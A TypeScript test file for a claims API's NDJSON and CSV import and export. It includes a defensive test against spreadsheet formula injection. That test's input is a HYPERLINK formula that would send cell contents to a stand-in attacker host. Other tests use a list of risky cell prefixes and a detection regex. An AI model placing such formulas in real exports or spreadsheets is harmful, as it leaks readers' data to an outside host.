import { Readable } from 'node:stream'
import { isDeepStrictEqual } from 'node:util'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import t from 'tap'
import { neutraliseFormula, restoreFormula } from '../src/modules/claims/csv-formulas.js'
import { csvStream, type ExportRecord } from '../src/modules/claims/export.js'
import { csvRecords } from '../src/modules/claims/import.js'
import { loadSeeds } from '../src/seed.js'
import { claimInput, dump, harness } from './helpers.js'

// Several harnesses and a property test: more than tap's default 30 s on a busy machine.
t.setTimeout(120_000)

const ndjson = (lines: unknown[]) => lines.map((l) => (typeof l === 'string' ? l : JSON.stringify(l))).join('\n') + '\n'

t.test('JSON import: a result per item; duplicates and bad items fail alone', async (t) => {
  const { as } = await harness(t)
  const existing = await as('editor')('POST', '/v1/claims', claimInput({ text: 'Already here' }))
  const res = await as('editor')('POST', '/v1/claims/import', {
    items: [claimInput({ text: 'One' }), claimInput({ text: 'already HERE' }), { text: 'no speaker' }, claimInput({ text: 'Two', status: 'disputed' })]
  })
  t.equal(res.statusCode, 200)
  t.match(res.data, { created: 2, duplicates: 1, failed: 1 })
  t.match(res.data.results, [
    { index: 0, ok: true, id: /-/ },
    { index: 1, ok: false, existingId: existing.data.id, error: { status: 409 } },
    { index: 2, ok: false, error: { status: 400, errors: [{ path: '/claimedAt' }] } },
    { index: 3, ok: true }
  ])
  t.equal((await as('viewer')('GET', `/v1/claims/${res.data.results[3].id}`)).data.status, 'unverified', 'read-only fields of an export are ignored')
  t.equal((await as('editor')('POST', '/v1/claims/import', { items: [] })).statusCode, 400)
  t.equal((await as('reviewer')('POST', '/v1/claims/import', { items: [claimInput()] })).statusCode, 403)
})

t.test('NDJSON import: streamed, line numbers, bad lines never undo good ones or leave half a claim', async (t) => {
  const { as } = await harness(t)
  const body = ndjson([
    claimInput({ text: 'Line one' }),
    '{not json',
    '',
    claimInput({ text: 'Line four', speaker: { name: 'A brand new speaker' }, claimedAt: '2999-01-01' }),
    claimInput({ text: 'Line one' }),
    claimInput({ text: 'Line six', speaker: { name: 'Another new speaker' }, speakerId: 'x' }),
    claimInput({ text: 'Line seven', speaker: { name: 'Ilham Aliyev', kind: 'person' } })
  ])
  const res = await as('editor')('POST', '/v1/claims/import', body, { 'content-type': 'application/x-ndjson' })
  t.equal(res.statusCode, 200)
  t.match(res.data, { created: 2, duplicates: 1, failed: 3 })
  t.same(res.data.results.map((r: { line: number, ok: boolean }) => [r.line, r.ok]), [[1, true], [2, false], [4, false], [5, false], [6, false], [7, true]])
  t.match(res.data.results[1].error, { status: 400, detail: 'Line 2 is not valid JSON' })
  const speakers = (await as('viewer')('GET', '/v1/speakers')).data.items.map((s: { name: string }) => s.name).sort()
  t.same(speakers, ['Ilham Aliyev', 'Nikol Pashinyan'], 'speakers of rejected lines were never created')
  t.equal((await as('admin')('GET', '/v1/audit/verify')).data.ok, true)
})

t.test('one import: a new speaker or source is made once, and nothing of a refused line is', async (t) => {
  const { as } = await harness(t)
  const before = (await as('viewer')('GET', '/v1/audit?limit=1000')).data.items.length
  const source = { title: 'A new archive', url: 'https://archive.example/one', kind: 'article' }
  const res = await as('editor')('POST', '/v1/claims/import', {
    items: [
      claimInput({ text: 'First of hers', speaker: { name: 'Anna Newcomer' }, source }),
      claimInput({ text: 'Second of hers', speaker: { name: 'ANNA NEWCOMER' }, source: { ...source, url: 'HTTPS://ARCHIVE.example/one#top' } }),
      claimInput({ text: 'first OF HERS', speaker: { name: 'anna newcomer' }, source }),
      claimInput({ text: 'Not made', speaker: { name: 'Never Made' }, source: undefined, sourceId: '00000000-0000-7000-8000-000000000000' }),
      claimInput({ text: 'Not made', speaker: undefined, speakerId: '00000000-0000-7000-8000-000000000000', source: { title: 'Never made either', kind: 'article' } })
    ]
  })
  t.equal(res.statusCode, 200)
  const [first, second, again, noSource, noSpeaker] = res.data.results
  t.match([first, second], [{ ok: true }, { ok: true }])
  t.match(again, { ok: false, existingId: first.id, error: { status: 409 } }, 'a duplicate of an earlier line, by a speaker that line made')
  t.match(noSource, { ok: false, error: { status: 422 } })
  t.match(noSpeaker, { ok: false, error: { status: 422 } })
  const claim = async (id: string) => (await as('viewer')('GET', `/v1/claims/${id}`)).data
  const [a, b] = [await claim(first.id), await claim(second.id)]
  t.equal(a.speakerId, b.speakerId, 'one speaker, found by name whatever the case')
  t.equal(a.sourceId, b.sourceId, 'one source, found by its URL')
  const events = (await as('viewer')('GET', '/v1/audit?limit=1000')).data.items.slice(before)
    .map((e: { action: string, entityId: string }) => [e.action, e.entityId])
  t.same(events, [['speaker.created', a.speakerId], ['source.created', a.sourceId], ['claim.created', a.id], ['claim.created', b.id]],
    'each new entity audited once, before the claim that names it; refused lines left nothing')
  const speakers = (await as('viewer')('GET', '/v1/speakers?q=never')).data.items
  const sources = (await as('viewer')('GET', '/v1/sources?q=never')).data.items
  t.same([speakers, sources], [[], []])
})

t.test('import limits and content types', async (t) => {
  const { as, engine } = await harness(t)
  const before = await dump(engine)
  const big = await as('editor')('POST', '/v1/claims/import', 'x'.repeat(50 * 1024 * 1024 + 1), { 'content-type': 'application/x-ndjson' })
  t.equal(big.statusCode, 413)
  t.match(big.headers['content-type'], /^application\/problem\+json/)
  t.equal(big.headers.connection, 'close', 'the client may still be sending: this connection cannot carry another request')
  t.equal((await as('editor')('POST', '/v1/claims/import', 'hello', { 'content-type': 'text/plain' })).statusCode, 415)
  t.equal((await as('editor')('POST', '/v1/claims', 'a,b\n1,2\n', { 'content-type': 'text/csv' })).statusCode, 415, 'CSV only where documented')
  t.same(await dump(engine), before)
})

t.test('export: NDJSON and CSV with the list filters, correct CSV quoting', async (t) => {
  const { as } = await harness(t)
  const tricky = 'He said, "no"\nthen left; costs €5 — ok'
  await as('editor')('POST', '/v1/claims', claimInput({ text: tricky, quote: 'a "quoted" word', topics: ['a', 'b'] }))
  await as('editor')('POST', '/v1/claims', claimInput({ text: 'Older', claimedAt: '2019-01-01' }))
  const nd = await as('viewer')('GET', '/v1/claims/export?claimedFrom=2020-01-01')
  t.equal(nd.statusCode, 200)
  t.match(nd.headers['content-type'], /^application\/x-ndjson/)
  const lines = nd.body.trim().split('\n').map((l) => JSON.parse(l))
  t.equal(lines.length, 1)
  t.match(lines[0], { text: tricky, quote: 'a "quoted" word', speaker: { name: 'Nikol Pashinyan', kind: 'person' }, source: { publisher: 'Mail Online' }, topics: ['a', 'b'] })

  const csv = await as('viewer')('GET', '/v1/claims/export?format=csv&sort=claimedAt')
  t.match(csv.headers['content-type'], /^text\/csv; charset=utf-8/)
  t.match(csv.headers['content-disposition'], /claims\.csv/)
  t.match(csv.body, /^id,text,quote,speakerName,/)
  const rows = parse(csv.body, { columns: true }) as Array<Record<string, string>>
  t.same(rows.map((r) => r.text), ['Older', tricky], 'commas, quotes and newlines survive')
  t.equal(rows[1]?.topics, 'a;b')
  t.equal(rows[0]?.quote, '', 'null is an empty cell')
  t.equal((await as('viewer')('GET', '/v1/claims/export?format=xml')).statusCode, 400)
  t.equal((await as('viewer')('GET', '/v1/claims/export?limit=5')).statusCode, 400, 'export is not paged')
})

t.test('seeded claims round-trip through NDJSON and CSV export/import byte for byte', async (t) => {
  const source = await harness(t)
  await loadSeeds(source.app.services)
  await source.as('editor')('POST', '/v1/claims', claimInput({ text: 'Ünïcödé 🇦🇲, "quotes",\nnewline and עברית', context: '  kept  ' }))
  const original = (await source.as('viewer')('GET', '/v1/claims?limit=200&sort=createdAt')).data.items
  const textFields = (c: Record<string, unknown> & { speaker: { name: string }, source: { title: string, url: string | null } }) =>
    [c.text, c.quote, c.context, c.claimedAt, c.topics, c.language, c.speaker.name, c.source.title, c.source.url]

  for (const format of ['ndjson', 'csv'] as const) {
    const exported = await source.as('viewer')('GET', `/v1/claims/export?format=${format}&sort=createdAt`)
    const target = await harness(t)
    const imported = await target.as('editor')('POST', '/v1/claims/import', exported.body,
      { 'content-type': format === 'csv' ? 'text/csv' : 'application/x-ndjson' })
    t.match(imported.data, { created: original.length, duplicates: 0, failed: 0 }, format)
    const copy = (await target.as('viewer')('GET', '/v1/claims?limit=200&sort=createdAt')).data.items
    t.same(copy.map(textFields), original.map(textFields), `${format}: every text field identical`)
    const again = await target.as('editor')('POST', '/v1/claims/import', exported.body,
      { 'content-type': format === 'csv' ? 'text/csv' : 'application/x-ndjson' })
    t.match(again.data, { created: 0, duplicates: original.length }, `${format}: importing twice only finds duplicates`)
  }
})

t.test('CSV export neutralises spreadsheet formulas (OWASP) and CSV import restores them exactly', async (t) => {
  const source = await harness(t)
  const tricky = {
    text: '=HYPERLINK("https://evil.example/?"&A1,"Click for sources")',
    quote: "'=1+1 was already quoted by hand",
    context: "'hello, a leading apostrophe before plain text",
    topics: ['-dash-first', 'b'],
    speaker: { name: '@handle of the speaker', kind: 'person', description: '+44 20 7946 0000' },
    source: { title: '-5% says the survey', publisher: "''@twice", url: 'https://example.com/poll' }
  }
  const created = await source.as('editor')('POST', '/v1/claims', claimInput(tricky))
  t.equal(created.statusCode, 201)
  const csv = await source.as('viewer')('GET', '/v1/claims/export?format=csv')
  const [row] = parse(csv.body, { columns: true }) as Array<Record<string, string>>
  t.match(row, {
    text: "'" + tricky.text,
    quote: "''=1+1 was already quoted by hand",
    context: tricky.context,
    topics: "'-dash-first;b",
    speakerName: "'@handle of the speaker",
    speakerDescription: "'+44 20 7946 0000",
    sourceTitle: "'-5% says the survey",
    sourcePublisher: "'''@twice"
  }, 'each dangerous cell starts with one more apostrophe; plain text is left alone')
  t.same(Object.entries(row ?? {}).filter(([, cell]) => /^[=+\-@\t\r]/.test(cell)), [], 'no cell a spreadsheet would run')

  const target = await harness(t)
  const imported = await target.as('editor')('POST', '/v1/claims/import', csv.body, { 'content-type': 'text/csv' })
  t.match(imported.data, { created: 1, failed: 0 })
  const copy = (await target.as('viewer')('GET', `/v1/claims/${imported.data.results[0].id}`)).data
  t.match(copy, { text: tricky.text, quote: tricky.quote, context: tricky.context, topics: tricky.topics, speaker: { name: tricky.speaker.name } })
  const speaker = (await target.as('viewer')('GET', `/v1/speakers/${copy.speakerId}`)).data
  const origin = (await target.as('viewer')('GET', `/v1/sources/${copy.sourceId}`)).data
  t.match([speaker.description, origin.title, origin.publisher], [tricky.speaker.description, tricky.source.title, tricky.source.publisher])
})

t.test('property: every text round-trips through CSV export and import, and no exported cell starts a formula', async (t) => {
  const risky = fc.constantFrom('', "'", "''", '=', '+', '-', '@', '\t', '\r', "'=", "''+", "'-", '\'"@', ' =')
  const cellText = (trimmed: boolean) => fc.tuple(risky, fc.string({ unit: 'grapheme', maxLength: 12 }))
    .map(([prefix, rest]) => prefix + rest)
    .filter((s) => !trimmed || (s.trim() === s && s !== ''))
  // The pure functions take any string (tabs and CRs too, which the API would have trimmed).
  fc.assert(fc.property(cellText(false), (s) => restoreFormula(neutraliseFormula(s)) === s && !/^[=+\-@\t\r]/.test(neutraliseFormula(s))),
    { numRuns: 1000 })

  // Through the real CSV writer and reader, with values as the API stores them (trimmed, non-empty).
  const text = cellText(true)
  const record = fc.record({ text, quote: text, context: text, name: text, description: text, title: text, publisher: text })
    .map((v): ExportRecord => ({
      id: '01920000-0000-7000-8000-000000000000',
      text: v.text,
      quote: v.quote,
      speaker: { name: v.name, kind: 'person', description: v.description },
      source: { title: v.title, publisher: v.publisher, url: null, kind: 'article', publishedAt: null },
      claimedAt: '2020-10-21',
      context: v.context,
      topics: [],
      language: 'en',
      status: 'unverified',
      reviewCount: 0,
      lastReviewedAt: null,
      createdAt: '2020-10-21T09:30:00.000Z',
      updatedAt: '2020-10-21T09:30:00.000Z',
      version: 1,
      appearances: []
    }))
  await fc.assert(fc.asyncProperty(fc.array(record, { minLength: 1, maxLength: 5 }), async (records) => {
    const csv = Buffer.concat(await csvStream(Readable.from(records)).toArray())
    const cells = (parse(csv, { columns: true }) as Array<Record<string, string>>).flatMap((row) => Object.values(row))
    if (cells.some((cell) => /^[=+\-@\t\r]/.test(cell))) return false
    const texts = (r: { text: unknown, quote: unknown, context: unknown, speaker: any, source: any }) =>
      [r.text, r.quote, r.context, r.speaker.name, r.speaker.description, r.source.title, r.source.publisher]
    const read: unknown[] = []
    for await (const item of csvRecords(Readable.from([csv]))) read.push(texts(item.value as ExportRecord))
    return isDeepStrictEqual(read, records.map(texts))
  }), { numRuns: 100 })
  t.pass('held for every generated case')
})
